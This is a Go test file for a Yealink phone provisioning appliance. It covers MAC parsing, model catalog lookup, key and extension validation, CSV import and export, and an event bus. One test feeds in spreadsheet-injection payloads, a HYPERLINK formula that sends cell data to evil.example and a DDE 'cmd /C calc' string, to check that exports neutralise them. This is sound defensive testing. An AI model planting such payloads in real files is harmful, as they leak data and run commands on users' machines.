package appliance_test

import (
	"fmt"
	"strings"
	"testing"

	"github.com/provbox/provbox/appliance"
	"github.com/provbox/provbox/configs"
)

func wantField(t *testing.T, err error, field string) {
	t.Helper()
	if field == "" {
		if err != nil {
			t.Fatalf("unexpected error %v", err)
		}
		return
	}
	if appliance.ErrorCode(err) != appliance.EINVALID || appliance.ErrorField(err) != field {
		t.Fatalf("got %v (field %q), want EINVALID on %q", err, appliance.ErrorField(err), field)
	}
}

func TestParseMAC(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"001565AABBCC", "001565aabbcc"},
		{"00:15:65:aa:bb:cc", "001565aabbcc"},
		{"00-15-65-AA-BB-CC", "001565aabbcc"},
		{"0015.65aa.bbcc", "001565aabbcc"},
		{" 001565aabbcc ", "001565aabbcc"},
		{"02:00:00:00:00:01", "020000000001"}, // locally administered is fine
		{"", ""},
		{"00:15:65:aa:bb", ""},
		{"00:15-65:aa:bb:cc", ""},
		{"0015:65aa:bbcc", ""},
		{"00156gaabbcc", ""},
		{"001565aabbccdd", ""},
		{"000000000000", ""},      // zero
		{"01:00:5e:00:00:fb", ""}, // multicast
		{"ff:ff:ff:ff:ff:ff", ""}, // broadcast
		{"03:15:65:aa:bb:cc", ""}, // group bit
		{"00:15:65:aa:bb:cc\n", "001565aabbcc"},
		{"00:15:65:aa:bb:c\x00", ""},
	} {
		got, err := appliance.ParseMAC(tc.in)
		if tc.want == "" {
			wantField(t, err, "mac")
		} else if err != nil || got != tc.want {
			t.Errorf("ParseMAC(%q) = %q, %v; want %q", tc.in, got, err, tc.want)
		}
	}
}

func FuzzParseMAC(f *testing.F) {
	for _, s := range []string{"001565AABBCC", "00:15:65:aa:bb:cc", "00-15-65-AA-BB-CC", "0015.65aa.bbcc", "01005e0000fb", ""} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		mac, err := appliance.ParseMAC(s)
		if err != nil {
			if appliance.ErrorField(err) != "mac" {
				t.Fatalf("error without field: %v", err)
			}
			return
		}
		if len(mac) != 12 || strings.Trim(mac, "0123456789abcdef") != "" || mac == "000000000000" {
			t.Fatalf("ParseMAC(%q) = %q", s, mac)
		}
		// Canonical output parses to itself in every notation.
		for _, form := range []string{mac, appliance.FormatMAC(mac), strings.ToUpper(strings.ReplaceAll(appliance.FormatMAC(mac), ":", "-")), mac[:4] + "." + mac[4:8] + "." + mac[8:]} {
			if again, err := appliance.ParseMAC(form); err != nil || again != mac {
				t.Fatalf("%q → %q → %q, %v", s, mac, again, err)
			}
		}
	})
}

func TestNormalizeModel(t *testing.T) {
	for _, tc := range []struct{ mf, model, want, field string }{
		{"yealink", "T-46g", "T46G", ""},
		{"Yealink", "SIP-T46G", "T46G", ""},
		{"", "t48s", "T48S", ""},
		{"YEALINK", "Yealink SIP-T54W", "T54W", ""},
		{"", "T58V", "T58", ""},
		{"", "sip t57w", "T57W", ""},
		{"", "T99", "", "model"},
		{"", "", "", "model"},
		{"Polycom", "VVX400", "", "manufacturer"},
	} {
		m, err := configs.MustCatalog().Normalize(tc.mf, tc.model)
		wantField(t, err, tc.field)
		if tc.field == "" && (m.Name != tc.want || m.Manufacturer != "Yealink") {
			t.Errorf("NormalizeModel(%q,%q) = %+v", tc.mf, tc.model, m)
		}
		if tc.field == "model" && tc.model != "" && !strings.Contains(err.Error(), "T46G") {
			t.Errorf("error does not list supported models: %v", err)
		}
	}
	// The minimum list, with key counts from the reference.
	for name, keys := range map[string]int{"T41S": 15, "T42S": 15, "T46G": 27, "T46S": 27, "T46U": 27, "T48G": 29, "T48S": 29, "T48U": 29, "T53W": 21, "T54W": 27, "T57W": 29, "T58": 27} {
		if m, ok := configs.MustCatalog().Lookup("Yealink", name); !ok || m.LineKeys != keys {
			t.Errorf("%s: %+v %v", name, m, ok)
		}
	}
}

func TestKeyValueRules(t *testing.T) {
	for _, tc := range []struct{ typ, value, field string }{
		{"blf", "1002", ""},
		{"blf", "1002@pbx.example.com", ""},
		{"blf", "bob@", "value"},
		{"blf", "10 02", "value"},
		{"blf", "1002@bad host", "value"},
		{"speed_dial", "+1555123,,42#", ""},
		{"speed_dial", "555-1234", "value"},
		{"park", "*85", ""},
		{"park", "701", ""},
		{"park", "70a", "value"},
		{"park", "#70", ""},
		{"park", "70*", "value"}, // neither a slot (digits) nor a code (starts with * or #)
		{"prefix", "+9", ""},
		{"prefix", "9,", "value"},
		{"account", "1001", ""},
		{"account", "10 01", "value"},
		{"intercom", "1001", "type"},
		{"", "", "type"},
		{"blf", "", "value"},
		{"speed_dial", strings.Repeat("1", 65), "value"},
	} {
		t.Run(tc.typ+"/"+tc.value, func(t *testing.T) {
			wantField(t, appliance.ValidateKeyValue(tc.typ, tc.value), tc.field)
		})
	}
}

func TestIsParkSlot(t *testing.T) {
	for value, want := range map[string]bool{"701": true, "1": true, "*85": false, "#7": false, "": false, "70*": false} {
		if got := appliance.IsParkSlot(value); got != want {
			t.Errorf("IsParkSlot(%q) = %v, want %v", value, got, want)
		}
	}
}

func TestPhoneConfigProblems(t *testing.T) {
	withServer := &appliance.Extension{Number: "101", SIPServer: "pbx.example.com"}
	without := &appliance.Extension{Number: "102"}
	ok := appliance.Settings{ProvisioningURL: "http://192.168.1.10:8080/prov/"}
	for _, tc := range []struct {
		name     string
		accounts []*appliance.Extension
		settings appliance.Settings
		want     []string // substrings, one per problem, in order
	}{
		{"ready", []*appliance.Extension{withServer}, ok, nil},
		{"no account key", nil, ok, []string{"no account key"}},
		{"extension without SIP server", []*appliance.Extension{withServer, without}, ok, []string{"extension 102 has no SIP server"}},
		{"registrar covers it", []*appliance.Extension{without}, appliance.Settings{ProvisioningURL: ok.ProvisioningURL, Registrar: "pbx"}, nil},
		{"loopback URL", []*appliance.Extension{withServer}, appliance.Settings{ProvisioningURL: "http://127.0.0.1:8080/prov/"}, []string{"loopback"}},
		{"localhost URL", []*appliance.Extension{withServer}, appliance.Settings{ProvisioningURL: "http://localhost:8080/prov/"}, []string{"loopback"}},
		{"no URL", []*appliance.Extension{withServer}, appliance.Settings{}, []string{"no provisioning URL"}},
		{"all at once", []*appliance.Extension{}, appliance.Settings{ProvisioningURL: "http://[::1]/prov/"}, []string{"no account key", "loopback"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			cfg := &appliance.PhoneConfig{Settings: tc.settings}
			for i, e := range tc.accounts {
				cfg.Accounts = append(cfg.Accounts, appliance.Account{Index: i + 1, Extension: e})
			}
			got := cfg.Problems()
			if got == nil || len(got) != len(tc.want) {
				t.Fatalf("problems %q, want %d like %q", got, len(tc.want), tc.want)
			}
			for i, w := range tc.want {
				if !strings.Contains(got[i], w) {
					t.Errorf("problem %d = %q, want it to say %q", i, got[i], w)
				}
			}
		})
	}
}

func TestPhoneAdminPassword(t *testing.T) {
	seen := map[string]bool{}
	for range 50 {
		pw := appliance.GeneratePassword(16)
		if err := appliance.ValidatePhoneAdminPassword("p", pw); err != nil || len(pw) != 16 || strings.ContainsAny(pw, "0O1lI") || seen[pw] {
			t.Fatalf("generated %q: %v", pw, err)
		}
		seen[pw] = true
	}
	for _, tc := range []struct{ pw, field string }{
		{"a-long-password", ""},
		{"admin", "p"},
		{"short7!", "p"},
		{strings.Repeat("x", 33), "p"},
		{"with space 1234", "p"},
		{"colon:in:it:1234", "p"},
		{"tab\there123456", "p"},
		{"ünicode-password", "p"},
	} {
		t.Run(tc.pw, func(t *testing.T) { wantField(t, appliance.ValidatePhoneAdminPassword("p", tc.pw), tc.field) })
	}
}

func TestKeyNormalize(t *testing.T) {
	for _, tc := range []struct {
		key   appliance.Key
		label string
		field string
	}{
		{appliance.Key{Type: "BLF", Value: " 1002 "}, "1002", ""},
		{appliance.Key{Type: "blf", Value: "1002", Label: "Bob"}, "Bob", ""},
		{appliance.Key{Type: "blf", Value: "1002", Label: "a\nlinekey.1.type = 15"}, "", "label"},
		{appliance.Key{Type: "blf", Value: "1002", Label: "tab\there"}, "", "label"},
		{appliance.Key{Type: "blf", Value: "1002", Label: strings.Repeat("x", 33)}, "", "label"},
		{appliance.Key{Type: "blf", Value: "1002", Label: "# = ok ünïcode"}, "# = ok ünïcode", ""},
		{appliance.Key{Type: "account", Value: "1001"}, "", "type"},
	} {
		k := tc.key
		err := k.Normalize()
		wantField(t, err, tc.field)
		if tc.field == "" && k.Label != tc.label {
			t.Errorf("label %q want %q", k.Label, tc.label)
		}
	}
}

func TestExtensionRules(t *testing.T) {
	for _, tc := range []struct {
		name  string
		ext   appliance.Extension
		field string
	}{
		{"ok", appliance.Extension{Number: "1001", Name: "Alice"}, ""},
		{"chars", appliance.Extension{Number: "a.b_c-d+1"}, ""},
		{"empty", appliance.Extension{}, "number"},
		{"long", appliance.Extension{Number: strings.Repeat("1", 33)}, "number"},
		{"space", appliance.Extension{Number: "10 01"}, "number"},
		{"slash", appliance.Extension{Number: "10/01"}, "number"},
		{"name ctl", appliance.Extension{Number: "1", Name: "A\x1b[31m"}, "name"},
		{"name long", appliance.Extension{Number: "1", Name: strings.Repeat("n", 65)}, "name"},
		{"transport", appliance.Extension{Number: "1", Transport: "sctp"}, "transport"},
		{"transport case", appliance.Extension{Number: "1", Transport: "TLS"}, ""},
		{"server", appliance.Extension{Number: "1", SIPServer: "pbx.example.com:5061"}, ""},
		{"server port", appliance.Extension{Number: "1", SIPServer: "pbx:99999"}, "sip_server"},
		{"server junk", appliance.Extension{Number: "1", SIPServer: "pbx example"}, "sip_server"},
		{"voicemail", appliance.Extension{Number: "1", Voicemail: "*97"}, ""},
		{"voicemail bad", appliance.Extension{Number: "1", Voicemail: "vm"}, "voicemail"},
		{"password newline", appliance.Extension{Number: "1", Password: "a\nb"}, "password"},
		{"auth", appliance.Extension{Number: "1", AuthUser: "a b"}, "auth_user"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			e := tc.ext
			wantField(t, e.Normalize(""), tc.field)
		})
	}
}

func TestLocationRules(t *testing.T) {
	for _, tc := range []struct {
		loc   appliance.Location
		field string
	}{
		{appliance.Location{Name: "HQ", CallbackNumber: "+15551234567"}, ""},
		{appliance.Location{}, "name"},
		{appliance.Location{Name: "HQ", Street: "1 Main\nSt"}, "street"},
		{appliance.Location{Name: "HQ", CallbackNumber: "555-1234"}, "callback_number"},
		{appliance.Location{Name: "HQ", PostalCode: strings.Repeat("9", 17)}, "postal_code"},
	} {
		l := tc.loc
		wantField(t, l.Normalize(), tc.field)
	}
}

func TestParseCSV_Errors(t *testing.T) {
	for _, tc := range []struct {
		name, csv string
		line      int
		field     string
	}{
		{"empty", "", 1, "header"},
		{"unknown column", "mac,model,colour\n", 1, "header"},
		{"missing model", "mac,name\n", 1, "header"},
		{"bad mac", "mac,model\n001565000001,T46G\nnope,T46G\n", 3, "mac"},
		{"bad model", "mac,model\n001565000001,T99\n", 2, "model"},
		{"contradiction", "mac,name,model\n001565000001,A,T46G\n001565000001,B,T46G\n", 3, "name"},
		{"bad position", "mac,model,position,key_type,key_value\n001565000001,T46G,x,blf,1\n", 2, "position"},
		{"bad key value", "mac,model,position,key_type,key_value\n001565000001,T46G,1,speed_dial,abc\n", 2, "key_value"},
		{"bad key type", "mac,model,position,key_type,key_value\n001565000001,T46G,1,intercom,1\n", 2, "key_type"},
		{"label newline", "mac,model,position,key_type,key_value,key_label\n001565000001,T46G,1,blf,1,\"a\nb\"\n", 2, "key_label"},
		{"field count", "mac,model\n001565000001,T46G,extra\n", 2, "row"},
		{"bad quote", "mac,model\n\"001565000001,T46G\n", 2, "csv"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			_, err := appliance.ParseCSV(strings.NewReader(tc.csv), configs.MustCatalog())
			if appliance.ErrorLine(err) != tc.line || appliance.ErrorField(err) != tc.field {
				t.Fatalf("got %v (line %d field %q), want line %d field %q", err, appliance.ErrorLine(err), appliance.ErrorField(err), tc.line, tc.field)
			}
		})
	}
}

func FuzzParseCSV(f *testing.F) {
	f.Add("mac,name,description,location,manufacturer,model,position,key_type,key_value,key_label\n00:15:65:00:00:01,Desk,,HQ,Yealink,T46G,1,account,1001,\n00:15:65:00:00:01,,,,,,2,blf,1002,Bob\n")
	f.Add("mac,model\n001565000001,T41S\n")
	f.Add("\ufeffMAC,Model\n0015.6500.0001,sip-t54w\n")
	f.Fuzz(func(t *testing.T, s string) {
		rows, err := appliance.ParseCSV(strings.NewReader(s), configs.MustCatalog())
		if err != nil {
			for _, e := range appliance.AllErrors(err) {
				if e.Code == appliance.EINVALID && e.Line < 1 {
					t.Fatalf("invalid without a line: %v", err)
				}
			}
			return
		}
		// What parses is clean: canonical MACs, supported models, valid keys,
		// no control characters anywhere a config could see them.
		for _, r := range rows {
			if _, err := r.Phone.Normalize(configs.MustCatalog()); err != nil {
				t.Fatalf("accepted bad phone %+v: %v", r.Phone, err)
			}
			for _, k := range r.Keys {
				if err := appliance.ValidateKeyValue(k.Type, k.Value); err != nil {
					t.Fatalf("accepted bad key %+v: %v", k, err)
				}
				if strings.ContainsAny(k.Label, "\r\n\x00") {
					t.Fatalf("accepted label %q", k.Label)
				}
			}
		}
	})
}

func TestEventBus_NeverBlocks(t *testing.T) {
	bus := appliance.NewEventBus(nil)
	sub := bus.Subscribe(1)
	defer sub.Close()
	for i := 0; i < 3; i++ {
		bus.Publish(appliance.Event{Type: appliance.EventPhonesChanged, MACs: []string{"001565000001"}})
	}
	if bus.Dropped() != 2 {
		t.Fatalf("dropped %d", bus.Dropped())
	}
	if e := <-sub.C; e.MACs[0] != "001565000001" {
		t.Fatal(e)
	}
}

// TestEventBus_TypeFilter: a subscription for some types gets only those,
// so a flood of others neither fills its buffer nor counts as drops.
func TestEventBus_TypeFilter(t *testing.T) {
	bus := appliance.NewEventBus(nil)
	only := bus.Subscribe(1, appliance.EventReservationsChanged)
	all := bus.Subscribe(100)
	for i := 0; i < 50; i++ {
		bus.Publish(appliance.Event{Type: appliance.EventFetched, MACs: []string{"001565000001"}})
	}
	bus.Publish(appliance.Event{Type: appliance.EventReservationsChanged})
	if e := <-only.C; e.Type != appliance.EventReservationsChanged {
		t.Fatalf("filtered subscription got %+v", e)
	}
	if len(all.C) != 51 || bus.Dropped() != 0 {
		t.Fatalf("unfiltered %d, dropped %d", len(all.C), bus.Dropped())
	}
}

// TestCSVFormulas: cells a spreadsheet would run as a formula are written
// with a leading ' (SPEC §9) and read back exactly.
func TestCSVFormulas(t *testing.T) {
	in := []appliance.PhoneImport{{
		Phone:    appliance.Phone{MAC: "001565000201", Name: `=HYPERLINK("http://evil.example/?"&A1,"click")`, Description: `+1+cmd|' /C calc'!A0`, Model: "T46G", Manufacturer: "Yealink"},
		Location: "@SUM(A1)",
		Keys: []appliance.ImportKey{
			{Position: 1, Type: "speed_dial", Value: "+15551234", Label: "-minus"},
			{Position: 2, Type: "speed_dial", Value: "101", Label: "'=quoted"},
			{Position: 3, Type: "speed_dial", Value: "102", Label: "plain"},
		},
	}}
	var b strings.Builder
	if err := appliance.WriteCSV(&b, in); err != nil {
		t.Fatal(err)
	}
	for _, cell := range []string{`"'=HYPERLINK(`, `'+1+cmd`, `'@SUM(A1)`, `'+15551234`, `'-minus`, `''=quoted`} {
		if !strings.Contains(b.String(), cell) {
			t.Errorf("export lacks %s:\n%s", cell, b.String())
		}
	}
	if strings.Contains(b.String(), "'plain") || strings.Contains(b.String(), "'102") {
		t.Errorf("a plain cell was changed:\n%s", b.String())
	}
	out, err := appliance.ParseCSV(strings.NewReader(b.String()), configs.MustCatalog())
	if err != nil {
		t.Fatal(err)
	}
	p := out[0]
	if p.Phone.Name != in[0].Phone.Name || p.Phone.Description != in[0].Phone.Description || p.Location != in[0].Location {
		t.Errorf("read back %q %q %q", p.Phone.Name, p.Phone.Description, p.Location)
	}
	for i, k := range p.Keys {
		if k.Value != in[0].Keys[i].Value || k.Label != in[0].Keys[i].Label {
			t.Errorf("key %d read back %q %q", i+1, k.Value, k.Label)
		}
	}
}

// TestErrorQuotesClipped: an error quotes at most 100 characters of what
// the user sent (SPEC §9), here a 1 MB CSV column name.
func TestErrorQuotesClipped(t *testing.T) {
	huge := strings.Repeat("a", 1<<20)
	_, err := appliance.ParseCSV(strings.NewReader("mac,model,"+huge+"\n"), configs.MustCatalog())
	if err == nil || len(err.Error()) > 400 || !strings.Contains(err.Error(), strings.Repeat("a", 100)+"…") {
		t.Fatalf("error of %d bytes: %.300s", len(err.Error()), err)
	}
	if e := appliance.Errorf(appliance.EINVALID, "x", "%d %q and %s", 7, huge, "kept"); len(e.Error()) > 200 || !strings.HasSuffix(e.Error(), "and kept") {
		t.Fatalf("Errorf: %.300s", e)
	}
	if err := (appliance.KeyFilter{Q: strings.Repeat("b", 257)}).Validate(); appliance.ErrorField(err) != "q" {
		t.Fatalf("257-character search: %v", err)
	}
	if err := (appliance.PhoneFilter{Q: strings.Repeat("é", 256)}).Validate(); err != nil {
		t.Fatalf("256-character search: %v", err)
	}
}

// TestValidateLayout_Modules: positions are checked per panel (the phone's
// line keys, each chained module's keys), per model and module count, and
// a phone without line keys takes accounts only.
func TestValidateLayout_Modules(t *testing.T) {
	c := configs.MustCatalog()
	types := map[int64]string{1: appliance.KeyAccount, 2: appliance.KeyBLF, 3: appliance.KeyAccount}
	keyType := func(id int64) (string, bool) { t, ok := types[id]; return t, ok }
	for _, tc := range []struct {
		name    string
		model   string
		modules int
		layout  []appliance.LayoutEntry
		field   string
	}{
		{"T54W with two EXP50", "T54W", 2, []appliance.LayoutEntry{{Position: 1, KeyID: 1}, {Module: 1, Position: 60, KeyID: 2}, {Module: 2, Position: 1, KeyID: 2}}, ""},
		{"same position on two panels", "T54W", 1, []appliance.LayoutEntry{{Position: 1, KeyID: 1}, {Module: 1, Position: 1, KeyID: 1}}, ""},
		{"past the module's keys", "T54W", 1, []appliance.LayoutEntry{{Position: 1, KeyID: 1}, {Module: 1, Position: 61, KeyID: 2}}, "keys[1].position"},
		{"a module not chained", "T54W", 1, []appliance.LayoutEntry{{Position: 1, KeyID: 1}, {Module: 2, Position: 1, KeyID: 2}}, "keys[1].module"},
		{"modules past the model's", "T54W", 4, nil, "expansion_modules"},
		{"EXP40 keys are 40", "T46S", 6, []appliance.LayoutEntry{{Position: 1, KeyID: 1}, {Module: 6, Position: 40, KeyID: 2}, {Module: 6, Position: 41, KeyID: 2}}, "keys[2].position"},
		{"twice on one module", "T46U", 1, []appliance.LayoutEntry{{Position: 1, KeyID: 1}, {Module: 1, Position: 5, KeyID: 2}, {Module: 1, Position: 5, KeyID: 1}}, "keys[2].position"},
		{"no module on a T33G", "T33G", 1, nil, "expansion_modules"},
		{"T33G 12 keys", "T33G", 0, []appliance.LayoutEntry{{Position: 1, KeyID: 1}, {Position: 13, KeyID: 2}}, "keys[1].position"},
		{"W70B accounts", "W70B", 0, []appliance.LayoutEntry{{Position: 1, KeyID: 1}, {Position: 10, KeyID: 3}}, ""},
		{"W70B account 11", "W70B", 0, []appliance.LayoutEntry{{Position: 11, KeyID: 1}}, "keys[0].position"},
		{"W70B BLF", "W70B", 0, []appliance.LayoutEntry{{Position: 1, KeyID: 1}, {Position: 2, KeyID: 2}}, "keys[1].key_id"},
		{"T30 one account", "T30", 0, []appliance.LayoutEntry{{Position: 1, KeyID: 1}, {Position: 2, KeyID: 3}}, "keys[1].position"},
		{"accounts past the model's", "T31G", 0, []appliance.LayoutEntry{{Position: 1, KeyID: 1}, {Position: 2, KeyID: 3}}, ""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			m, ok := c.Lookup("Yealink", tc.model)
			if !ok {
				t.Fatal(tc.model)
			}
			wantField(t, appliance.ValidateLayout(c, m, tc.modules, tc.layout, keyType), tc.field)
		})
	}
}

// TestParseCSV_EveryError: a file with bad rows on lines 3, 4 and 6 lists
// all three, and still returns the phones it could read, the one with a
// bad row marked Partial.
func TestParseCSV_EveryError(t *testing.T) {
	in := "mac,model,position,key_type,key_value\n" +
		"001565000001,T46G,1,account,1001\n" +
		"nope,T46G,1,account,1001\n" +
		"001565000001,,x,blf,1002\n" +
		"001565000002,T46G,1,account,1002\n" +
		"001565000003,T99,,,\n"
	rows, err := appliance.ParseCSV(strings.NewReader(in), configs.MustCatalog())
	all := appliance.AllErrors(err)
	var got []string
	for _, e := range all {
		got = append(got, fmt.Sprintf("%d %s", e.Line, e.Field))
	}
	if fmt.Sprint(got) != "[3 mac 4 position 6 model]" {
		t.Fatalf("errors %v: %v", got, err)
	}
	if appliance.ErrorLine(err) != 3 || !strings.HasPrefix(appliance.ErrorMessage(err), "line 3: mac:") {
		t.Errorf("first error %q", appliance.ErrorMessage(err))
	}
	if len(rows) != 3 || !rows[0].Partial || len(rows[0].Keys) != 1 || rows[1].Partial || !rows[2].Partial {
		t.Fatalf("rows %+v", rows)
	}
}
